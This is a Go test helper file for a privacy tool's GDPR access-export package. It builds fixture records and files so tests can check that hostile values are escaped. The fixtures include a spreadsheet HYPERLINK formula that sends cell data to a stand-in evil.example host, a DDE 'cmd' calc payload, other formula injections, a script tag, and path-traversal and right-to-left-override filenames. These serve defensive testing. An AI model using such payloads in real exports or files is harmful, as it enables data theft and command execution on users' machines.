package exportpkg

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io"
	"math/rand/v2"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/steward-privacy/steward/connectors"
	"github.com/steward-privacy/steward/internal/policy"
	"github.com/steward-privacy/steward/policies"
)

var (
	engineOnce sync.Once
	engine     *policy.Engine
	engineErr  error
)

// testEngine is the default policy bundle, loaded once per test binary.
func testEngine(t testing.TB) *policy.Engine {
	t.Helper()
	engineOnce.Do(func() { engine, engineErr = policy.Load(context.Background(), policies.FS) })
	if engineErr != nil {
		t.Fatal(engineErr)
	}
	return engine
}

// blob is deterministic pseudo-random content.
func blob(seed byte, n int) []byte {
	b := make([]byte, n)
	rand.NewChaCha8([32]byte{seed}).Read(b)
	return b
}

func hexSHA(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// memFile is a file whose content is in memory, for tests.
func memFile(system, dataset, key, name, contentType string, content []byte, withSHA bool) File {
	f := File{System: system, File: connectors.File{Dataset: dataset, Key: key, Name: name, ContentType: contentType, Size: int64(len(content))}}
	if withSHA {
		f.SHA256 = hexSHA(content)
	}
	f.Open = func(context.Context) (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(content)), nil }
	return f
}

func rec(system, dataset, key string, fields ...connectors.FieldValue) Record {
	return Record{System: system, Record: connectors.Record{Dataset: dataset, Key: key, Fields: fields}}
}

func fv(field, category string, value any) connectors.FieldValue {
	return connectors.FieldValue{Field: field, Category: category, Value: value}
}

// fixture is a realistic input and what the test expects of its files.
type fixture struct {
	in       Input
	contents [][]byte // by file index
}

const (
	injection   = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	scriptValue = `<script>alert("x")</script>`
)

// realistic builds an input over the default data map: a web account with
// records in several systems (every JSON type, unicode, a formula, markup),
// a bot account, files of a few hundred KiB with unsafe and colliding
// names, and what an erasure kept.
func realistic(t testing.TB, lang string) fixture {
	t.Helper()
	e := testEngine(t)
	facts, err := FactsFromEngine(e)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]bool{
		"app_db.users": true, "app_db.generation_jobs": true, "app_db.payments": true, "app_db.sessions": true, "app_db.risk_flags": true,
		"object_store.uploads": true, "stripe.customers": true, "bot_db.tg_users": true, "bot_db.tg_generations": true,
	}
	systems, err := DescribeSystems(e.DataMap, facts, func(s, d string) bool { return want[s+"."+d] })
	if err != nil {
		t.Fatal(err)
	}
	// A description with markup: it must reach the report escaped.
	for i := range systems {
		if systems[i].ID == "app_db" {
			for j := range systems[i].Datasets {
				if systems[i].Datasets[j].ID == "users" {
					systems[i].Datasets[j].Description += " " + scriptValue
				}
			}
		}
	}
	records := []Record{
		rec("app_db", "users", "7f3c0b52-1d1e-4c55-9b0a-0c1f7a6b1e01",
			fv("id", "user.unique_id", "7f3c0b52-1d1e-4c55-9b0a-0c1f7a6b1e01"),
			fv("email", "user.contact.email", "ana.lukasz@example.com"),
			fv("email_verified", "system.operations", true),
			fv("name", "user.name", "Анна Łukasz 🍌 — O‘g‘iloy"),
			fv("image", "user.content.self_image", nil),
			fv("language", "user.preferences.language", "ru"),
			fv("role", "user.account", "user"),
			fv("banned", "user.security.risk", false),
			fv("ban_reason", "user.security.risk", scriptValue),
			fv("created_at", "system.operations", "2025-03-01T10:00:00Z"),
			fv("nickname", "user.name", "+79991234567"), // not in the data map: an extra column
		),
		rec("app_db", "generation_jobs", "job-1",
			fv("id", "system.operations", "job-1"),
			fv("prompt", "user.content.prompt", injection),
			fv("negative_prompt", "user.content.prompt", "-2+3"),
			fv("style_tags", "user.content.parameters", []any{"noir", "ретро", scriptValue}),
			fv("seed", "user.content.parameters", float64(42)),
			fv("parameters", "user.content.parameters", map[string]any{"steps": float64(30), "cfg": 7.5, "size": map[string]any{"w": float64(1024), "h": float64(768)}, "tags": []any{}}),
			fv("output_count", "user.content.parameters", json.Number("4")),
			fv("runtime_ms", "system.operations", float64(-12.5)),
			fv("error", "system.log.error", "@SUM(A1:A9)"),
			fv("status", "system.operations", "\tcmd|' /C calc'!A0"),
			fv("created_at", "system.operations", "2025-03-02T11:00:00Z"),
		),
		rec("app_db", "generation_jobs", "job-2",
			fv("id", "system.operations", "job-2"),
			fv("prompt", "user.content.prompt", "кот в шляпе, \"quoted\", comma, newline\nsecond line"),
			fv("seed", "user.content.parameters", nil),
			fv("parameters", "user.content.parameters", map[string]any{}),
		),
		rec("app_db", "generation_jobs", "job-3",
			fv("id", "system.operations", "job-3"),
			fv("prompt", "user.content.prompt", " =1+1"),
			fv("output_count", "user.content.parameters", float64(1)),
		),
		rec("app_db", "payments", "pay-1",
			fv("id", "system.operations", "pay-1"),
			fv("amount", "user.financial.payment", float64(1999)),
			fv("currency", "user.financial.payment", "eur"),
			fv("status", "user.financial.payment", "succeeded"),
			fv("refunded_amount", "user.financial.payment", float64(0)),
		),
		rec("app_db", "sessions", "sess-1",
			fv("id", "system.operations", "sess-1"),
			fv("ip_address", "user.device.ip_address", "203.0.113.7"),
			fv("user_agent", "user.device.browser", "Mozilla/5.0 (X11; Linux x86_64)"),
		),
		rec("object_store", "uploads", "uploads/7f3c/ref-1.png",
			fv("body", "user.content.image", "object_store/uploads/ref-1.png"),
			fv("content_type", "system.operations", "image/png"),
			fv("last_modified", "system.operations", "2025-03-02T10:59:00Z"),
		),
		rec("stripe", "customers", "cus_Q1",
			fv("id", "user.unique_id", "cus_Q1"),
			fv("email", "user.contact.email", "ana.lukasz@example.com"),
			fv("address", "user.contact.address", map[string]any{"city": "Tashkent", "country": "UZ", "line1": nil}),
		),
		rec("bot_db", "tg_users", "123456789",
			fv("tg_id", "user.unique_id", float64(123456789)),
			fv("username", "user.account.username", "@ana_banana"),
			fv("first_name", "user.name.first", "Oʻgʻiloy"),
			fv("language", "user.preferences.language", "uz"),
			fv("credits_balance", "user.financial.credits", float64(-3)),
		),
		// A dataset no SystemInfo describes still gets its CSV.
		rec("legacy", "notes", "n-1", fv("text", "user.content.message", "old note")),
	}
	png := blob(1, 300<<10)
	jpg := blob(2, 200<<10)
	var text bytes.Buffer
	for i := 0; text.Len() < 250<<10; i++ {
		text.WriteString("line ")
		text.WriteString(strings.Repeat("кот ", i%7))
		text.WriteString("\n")
	}
	files := []File{
		memFile("object_store", "uploads", "uploads/7f3c/ref-1.png", "object_store/uploads/ref-1.png", "image/png", png, true),
		memFile("object_store", "uploads", "uploads/7f3c/x/ref-1.png", "object_store/uploads/ref-1.png", "image/png", jpg, true), // same name
		memFile("object_store", "uploads", "uploads/7f3c/REF-1.PNG", "object_store/uploads/REF-1.PNG", "image/png", blob(3, 1000), false),
		memFile("object_store", "uploads", "k4", "../../etc/passwd", "text/plain", []byte("root:x:0:0\n"), true),
		memFile("object_store", "uploads", "k5", `C:\Users\ana\notes.txt`, "text/plain", text.Bytes(), true),
		memFile("object_store", "uploads", "k6", "/abs/CON.txt", "", []byte("con"), true),
		memFile("object_store", "uploads", "k7", "object_store/uploads/a&b #1 100%.webp", "image/webp", blob(4, 5000), true),
		memFile("object_store", "uploads", "k8", "object_store/uploads", "", []byte("a file where a directory is"), true),
		memFile("bot_db", "tg_generations", "g1", "bot/кот\u202egnp.exe", "application/octet-stream", blob(5, 2048), true),
	}
	contents := [][]byte{png, jpg, blob(3, 1000), []byte("root:x:0:0\n"), text.Bytes(), []byte("con"), blob(4, 5000), []byte("a file where a directory is"), blob(5, 2048)}
	in := Input{
		RequestID:   "0193a5b2-7c1d-7e2f-8a3b-4c5d6e7f8091",
		RequestType: "access",
		Language:    lang,
		Regime:      "gdpr",
		ReceivedAt:  time.Date(2026, 3, 1, 9, 30, 0, 0, time.UTC),
		GeneratedAt: time.Date(2026, 3, 4, 12, 0, 7, 0, time.UTC),
		Controllers: []Controller{{Name: "Nano Banana Pro <Ltd>", Contact: "support@nano-bananapro.com",
			DPOContact: "dpo@nano-bananapro.com", SupervisoryAuthority: "CNIL"}},
		SubjectKinds: []string{"email", "tg", "email"},
		Records:      records,
		Files:        files,
		Systems:      systems,
		Categories:   facts.Categories,
		Retained: []RetainedItem{
			{System: "app_db", Dataset: "payments", Field: "amount", Category: "user.financial.payment", Action: "retain",
				Basis: "Payment and invoice records must be kept to meet accounting and tax obligations", Until: "5 years from the record date"},
			{System: "bot_db", Dataset: "tg_broadcast_optouts", Field: "tg_user_id", Category: "user.unique_id", Action: "mask",
				Basis: "The opt-out itself is kept, pseudonymized", Until: "the opt-out no longer needs to be honoured"},
		},
	}
	return fixture{in: in, contents: contents}
}

// pkg is a built package, opened.
type pkg struct {
	raw      []byte
	zr       *zip.Reader
	byName   map[string]*zip.File
	manifest Manifest
}

func build(t testing.TB, in Input) pkg {
	t.Helper()
	var buf bytes.Buffer
	m, err := Build(context.Background(), &buf, in)
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatalf("open the package: %v", err)
	}
	p := pkg{raw: buf.Bytes(), zr: zr, byName: map[string]*zip.File{}, manifest: m}
	for _, f := range zr.File {
		if p.byName[f.Name] != nil {
			t.Fatalf("entry %s twice", f.Name)
		}
		p.byName[f.Name] = f
	}
	return p
}

func (p pkg) read(t testing.TB, name string) []byte {
	t.Helper()
	f := p.byName[name]
	if f == nil {
		t.Fatalf("no entry %s; have %v", name, p.names())
	}
	rc, err := f.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	b, err := io.ReadAll(rc) // checks the CRC too
	if err != nil {
		t.Fatalf("read %s: %v", name, err)
	}
	return b
}

func (p pkg) names() []string {
	var out []string
	for _, f := range p.zr.File {
		out = append(out, f.Name)
	}
	return out
}
